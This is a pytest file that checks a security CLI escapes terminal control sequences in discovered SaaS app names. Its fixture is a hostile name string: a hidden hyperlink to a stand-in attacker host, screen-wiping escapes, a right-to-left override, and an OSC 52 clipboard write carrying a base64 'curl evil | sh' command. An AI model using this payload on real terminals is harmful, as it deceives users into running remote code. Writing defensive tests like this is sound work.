"""Review 12: names from SaaS tenants and audit logs never reach the terminal as control
sequences (ESC / CSI / OSC, C1, bidi overrides) through the CLI's shared Rich consoles."""

from __future__ import annotations

import pytest

from ringfence.cli import output
from ringfence.cli.output import emit_table

# An app name a connector could discover: an OSC 8 hyperlink hiding its target, a screen clear,
# a cursor-up + erase-line that would wipe the previous table row, an OSC 52 clipboard write,
# an 8-bit CSI, and a right-to-left override.
HOSTILE = (
    "PDF \x1b]8;;https://evil.example/\x1b\\Converter\x1b]8;;\x1b\\ "
    "\x1b[2J\x1b[1A\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b31m \u202eexe.fdp"
)


def _no_controls(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert bad not in text, repr(text)


@pytest.mark.parametrize("many", [False, True], ids=["key-value", "table"])
def test_a_discovered_name_is_shown_not_sent_to_the_terminal(many: bool) -> None:
    rows = [{"risk": "high", "kind": "app", "name": HOSTILE, "vendor": "google_workspace"}]
    columns = ["risk", "kind", "name", "vendor", "detail", "scopes"]
    if many:
        rows.append({"risk": "low", "kind": "app", "name": "Giphy", "vendor": "slack"})
    with output.console.capture() as cap:
        emit_table(rows, columns, title="shadow IT")
    text = cap.get()
    _no_controls(text)
    assert "\\x1b" in text  # visible, so the analyst sees something is off


def test_printed_lines_and_errors_carry_no_controls() -> None:
    with output.console.capture() as cap:
        output.console.print(f"google_workspace revoke_grant {HOSTILE}: done", markup=False)
    _no_controls(cap.get())
    with output.err_console.capture() as cap, pytest.raises(SystemExit):
        output.fail(f"no app {HOSTILE!s}")
    _no_controls(cap.get())


def test_printable_keeps_text_tabs_and_newlines() -> None:
    from ringfence.cli.output import printable

    assert printable("Zoom für Ärzte\tv2\nnext") == "Zoom für Ärzte\tv2\nnext"
    assert printable("a\x1b[2Jb\u202ec\r") == "a\\x1b[2Jb\\u202ec\\r"
